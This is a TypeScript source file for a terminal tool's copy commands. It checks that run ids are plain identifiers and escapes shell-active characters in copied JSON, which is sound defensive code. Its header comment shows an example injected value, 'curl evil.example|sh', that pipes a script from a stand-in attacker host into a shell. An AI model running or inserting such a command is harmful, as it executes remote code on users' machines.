// What `y` and `Y` put on the clipboard, where it will be pasted into a shell, a URL or a
// ticket. Server text is sanitised for the screen, but a newline a terminal shows folded
// runs a command when pasted: `Wp7k; curl evil.example|sh\n`. So a run id is copied only
// when it is a plain identifier, and JSON goes on one line with every character a shell
// or a terminal would act on escaped, still valid JSON.
import {toWireDetail, toWireRun} from '../api/to-wire.js';
import type {Run, RunDetail} from '../domain/run.js';
import {MAX_CLIPBOARD_BASE64} from '../terminal/codes.js';
import {emit, say} from './effects.js';
import {shownRuns} from './matches.js';
import type {State} from './state.js';

/** Longest run id `y` copies; TableFlow's are 16 characters. */
export const MAX_COPIED_ID = 64;

const PLAIN_ID = /^[A-Za-z0-9_-]+$/;

/** Why `id` is not copied, or null when it is a plain identifier. */
export function idRefusal(id: string): string | null {
  if (id.length > MAX_COPIED_ID)
    return `run id not copied: longer than ${MAX_COPIED_ID} characters`;
  if (!PLAIN_ID.test(id))
    return 'run id not copied: it has characters other than letters, digits, - and _';
  return null;
}

// Inside a JSON string: whitespace but the space, controls, format and bidi characters,
// private and unassigned code points, and what a shell expands between double quotes
// ($ ` !). None can occur outside strings in JSON.stringify's compact output.
const ACTIVE = /[^\S ]|[\p{Cc}\p{Cf}\p{Co}\p{Cn}\p{Zl}\p{Zp}$`!]/gu;

function escaped(char: string): string {
  let out = '';
  // A code point past U+FFFF is escaped as its two UTF-16 halves, as JSON requires.
  for (let i = 0; i < char.length; i++)
    out += `\\u${char.charCodeAt(i).toString(16).padStart(4, '0')}`;
  return out;
}

/** `value` as JSON on one line, with no character a shell or terminal acts on left raw. */
export function clipboardJson(value: unknown): string {
  return JSON.stringify(value).replace(ACTIVE, escaped);
}

/** The run as `Y` copies it: the fetched detail when there is one, else the listed run. */
export function runJson(run: Run, detail: RunDetail | null): string {
  return clipboardJson(detail === null ? toWireRun(run) : toWireDetail(detail));
}

/** `y` (the id) or `Y` (the run as JSON): queued for the clipboard, or refused with a reason. */
export function copy(state: State, what: 'id' | 'json'): State {
  const detail = state.detail;
  const run = detail?.row ?? shownRuns(state)[state.cursor];
  if (run === undefined) return say(state, 'nothing to copy', 'warning');
  const refusal = what === 'id' ? idRefusal(run.id) : null;
  if (refusal !== null) return say(state, refusal, 'warning');
  const loaded = detail?.id === run.id ? detail.run : null;
  const text = what === 'id' ? run.id : runJson(run, loaded);
  if (Math.ceil(Buffer.byteLength(text, 'utf8') / 3) * 4 > MAX_CLIPBOARD_BASE64)
    return say(state, `run ${run.id} is too large to copy through the terminal`, 'warning');
  const label = what === 'id' ? `copied run id ${run.id}` : `copied run ${run.id} as JSON`;
  return say(emit(state, {kind: 'copy', text}), label);
}
